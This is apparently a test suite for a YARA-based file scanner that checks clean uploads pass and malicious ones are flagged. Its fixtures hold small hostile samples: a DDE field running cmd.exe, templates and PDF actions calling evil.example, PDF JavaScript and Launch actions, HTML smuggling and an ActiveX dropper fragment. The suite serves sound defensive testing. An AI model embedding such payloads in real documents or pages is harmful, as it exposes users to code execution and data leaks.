import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, test } from 'node:test';
import { deflateRawSync } from 'node:zlib';
import { EICAR, linuxProgram, macProgram, windowsProgram } from '#tests/support/files/malware.ts';
import { packedStream, pdf } from '#tests/support/files/pdf.ts';
import { GIF, png } from '#tests/support/files/pictures.ts';
import { docx, zip } from '#tests/support/files/zip.ts';
import { YaraScanner } from './yara-scanner.ts';

const scanner = new YaraScanner();
after(() => scanner.close());

async function* pieces(file: Uint8Array, size = 300_000): AsyncIterable<Uint8Array> {
  for (let at = 0; at < file.length; at += size) yield file.subarray(at, at + size);
}

async function signature(file: Uint8Array, by = scanner): Promise<string> {
  const result = await by.scan(() => pieces(file));
  return result.verdict === 'infected' ? result.signature : result.verdict;
}

const MIB = 1024 * 1024;
const OLE = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
const wide = (text: string) => Buffer.from(text, 'utf16le');
const noise = (size: number) => {
  const bytes = Buffer.alloc(size);
  for (let i = 0, x = 12345; i < size; i += 1) {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    bytes[i] = x >>> 16;
  }
  return bytes;
};

const harmless: Record<string, Uint8Array> = {
  'an empty file': Buffer.alloc(0),
  'plain text': Buffer.from('Pump 3 lost pressure at 14:02. MZ PE ELF /JavaScript <script> vbaProject.bin'),
  'a PDF': pdf(['Page one', 'Page two'], '/OpenAction [20 0 R /Fit]'),
  'a Word document': docx('A quiet letter'),
  'a PNG': png(200, 200),
  'a GIF': GIF,
  'an archive of harmless files': zip({ 'a.txt': 'a', 'b/inner.zip': zip({ 'c.pdf': pdf(['c']) }) }),
  'a spreadsheet export that packs well': zip({ 'export.csv': '0,0,0,0\n'.repeat(4_000_000) }),
  'nine megabytes of noise': noise(9 * MIB),
};

for (const [name, file] of Object.entries(harmless)) {
  test(`lets through ${name}`, async () => assert.equal(await signature(file), 'clean'));
}

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const harmful: Record<string, [string, Uint8Array]> = {
  'the EICAR file': ['eicar_test_file', EICAR],
  'EICAR inside an archive': ['eicar_test_file', zip({ 'notes.txt': EICAR })],
  'EICAR three archives deep': ['eicar_test_file', zip({ a: zip({ b: zip({ 'c.txt': EICAR }) }) })],
  'EICAR in a stored member': ['eicar_test_file', zip({ 'notes.txt': EICAR }, ['notes.txt'])],
  'EICAR over the edge of a window': [
    'eicar_test_file',
    Buffer.concat([noise(4 * MIB - 20), EICAR, noise(MIB)]),
  ],
  'EICAR at the end of a long file': ['eicar_test_file', Buffer.concat([noise(11 * MIB), EICAR])],
  'a Windows program': ['windows_program', windowsProgram()],
  'a Windows program behind a picture': ['windows_program', Buffer.concat([png(9, 9), windowsProgram()])],
  'a Windows program in a Word document': [
    'windows_program',
    docx('x', { 'word/media/a.png': windowsProgram() }),
  ],
  'a Linux program': ['unix_program', linuxProgram()],
  'a macOS program': ['mac_program', macProgram()],
  'a Windows shortcut': ['windows_shortcut', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
  'a Word document with macros': ['office_macro', docx('x', { 'word/vbaProject.bin': 'x' })],
  'a Word document with macros in an archive': [
    'office_macro',
    zip({ 'letter.docx': docx('x', { 'word/vbaProject.bin': 'x' }) }),
  ],
  'an old Word document with macros': [
    'office_macro_old_format',
    Buffer.concat([OLE, noise(900), wide('_VBA_PROJECT')]),
  ],
  'an old Word document with macros, in an archive': [
    'office_macro_old_format',
    zip({ 'old.doc': Buffer.concat([OLE, noise(900), wide('_VBA_PROJECT')]) }),
  ],
  'a Word document that starts a program': [
    'office_dde',
    docx('x', {
      'word/footer.xml': '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>',
    }),
  ],
  'a Word document that loads a template': [
    'office_remote_template',
    docx('x', {
      'word/_rels/settings.xml.rels':
        '<Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm"/>',
    }),
  ],
  'an RTF with an object': ['rich_text_object', Buffer.from('{\\rtf1{\\object\\objdata 0105}}')],
  'a PDF with JavaScript': ['pdf_javascript', pdf(['x'], '/OpenAction 10 0 R', [script])],
  'a PDF with an escaped name': [
    'pdf_javascript',
    pdf(['x'], '', [script.replace('/JavaScript', '/J#61vaScr#69pt')]),
  ],
  'a PDF with JavaScript in an object stream': [
    'pdf_javascript',
    pdf(['x'], '', [packedStream(`10 0 ${script}`, '/Type /ObjStm /N 1 /First 5').toString('latin1')]),
  ],
  'such a PDF inside an archive': [
    'pdf_javascript',
    zip({ 'a.pdf': pdf(['x'], '', [packedStream(`10 0 ${script}`, '/Type /ObjStm').toString('latin1')]) }),
  ],
  'a PDF that starts a program': ['pdf_launch', pdf(['x'], '/OpenAction << /S /Launch /F (cmd.exe) >>')],
  'a PDF that calls home when opened': [
    'pdf_open_action_elsewhere',
    pdf(['x'], '/OpenAction << /Type /Action /S /URI /URI (https://evil.example) >>'),
  ],
  'a page that smuggles a file': [
    'html_smuggling',
    Buffer.from(
      '<script>const b=new Blob([atob("AAAA")]);a.href=URL.createObjectURL(b);a.download="x.iso";a.click()</script>',
    ),
  ],
  'a script that drops a program': [
    'script_host_dropper',
    Buffer.from('var s = new ActiveXObject("WScript.Shell"); var t = new ActiveXObject("ADODB.Stream");'),
  ],
  'a picture that is a web page': [
    'picture_with_code',
    Buffer.concat([GIF, Buffer.from('<script>alert(1)</script>')]),
  ],
  'a picture that is a program for PHP': [
    'picture_with_code',
    Buffer.concat([png(5, 5), Buffer.from('<?php x();')]),
  ],
  'a picture that is an archive': ['picture_with_archive', Buffer.concat([png(5, 5), zip({ 'a.txt': 'a' })])],
  'a picture that is a PDF': ['picture_with_document', Buffer.concat([GIF, pdf(['x'])])],
  'an archive that unpacks to far too much': ['archive_bomb', zip({ zeros: Buffer.alloc(100 * MIB) })],
  'an archive too deep': ['archive_bomb', zip({ a: zip({ b: zip({ c: zip({ d: zip({ e: 'e' }) }) }) }) })],
  'an archive of countless parts': [
    'archive_bomb',
    Buffer.concat(
      Array.from({ length: 30_001 }, () => {
        const header = Buffer.alloc(30);
        header.write('PK\x03\x04', 'latin1');
        header.writeUInt16LE(8, 8);
        return Buffer.concat([header, deflateRawSync('')]);
      }),
    ),
  ],
};

for (const [name, [rule, file]] of Object.entries(harmful)) {
  test(`refuses ${name}`, async () => assert.equal(await signature(file), rule));
}

test('every refusal says in words what was found', async () => {
  for (const [, file] of Object.values(harmful).slice(0, 12)) {
    const result = await scanner.scan(() => pieces(file));
    assert.equal(result.verdict, 'infected');
    if (result.verdict === 'infected') assert.match(result.says, /^(an?|the) /);
  }
});

test('a scanner without the rule lets the same file through: the rule is what refuses', async () => {
  const blind = new YaraScanner({ rules: 'rule nothing { condition: false }' });
  assert.equal(await signature(EICAR, blind), 'clean');
  await blind.close();
});

test('rules that do not compile are an error, never a pass', async () => {
  const broken = new YaraScanner({ rules: 'rule broken {' });
  assert.equal(await signature(Buffer.from('x'), broken), 'error');
  assert.equal((await broken.health()).up, false);
  await broken.close();
});

test('asking for its health wakes its process once in a while, and keeps none', async () => {
  await scanner.close();
  const idle = new YaraScanner();
  const own = `/proc/${process.pid}/task/${process.pid}/children`;
  const processes = async () => (await readFile(own, 'utf8')).split(' ').filter(Boolean).length;
  assert.deepEqual(await idle.health(), { up: true, detail: 'yara' });
  assert.equal(await processes(), 0);
  const shown = idle.health();
  assert.equal(await processes(), 0);
  assert.deepEqual(await shown, { up: true, detail: 'yara' });
  assert.equal(await signature(EICAR, idle), 'eicar_test_file');
  assert.equal(await processes(), 1, 'control: a process that waits is seen');
  await idle.close();
  assert.equal(await processes(), 0);
});

test('a scan that takes too long is an error, and the next file is scanned again', async () => {
  const hasty = new YaraScanner({ timeoutMs: 1 });
  assert.equal(await signature(noise(9 * MIB), hasty), 'error');
  await hasty.close();
  assert.equal(await signature(EICAR), 'eicar_test_file');
});

test('a source that breaks is an error, and the next file is scanned again', async () => {
  async function* breaking() {
    yield EICAR.subarray(0, 30);
    throw new Error('the store went away');
  }
  assert.deepEqual(await scanner.scan(breaking), { verdict: 'error', detail: 'the store went away' });
  assert.equal(await signature(EICAR.subarray(30)), 'clean');
});

test('files given at the same time do not mix', async () => {
  const files = [EICAR, Buffer.from('a'), windowsProgram(), png(4, 4)];
  const found = await Promise.all(files.map((file) => signature(file)));
  assert.deepEqual(found, ['eicar_test_file', 'clean', 'windows_program', 'clean']);
});

test('the event loop stays free while a file is scanned', async () => {
  let ticks = 0;
  const timer = setInterval(() => (ticks += 1), 5);
  const file = noise(24 * MIB);
  ticks = 0;
  await signature(file);
  clearInterval(timer);
  assert.ok(ticks > 3, `${ticks} ticks`);
});
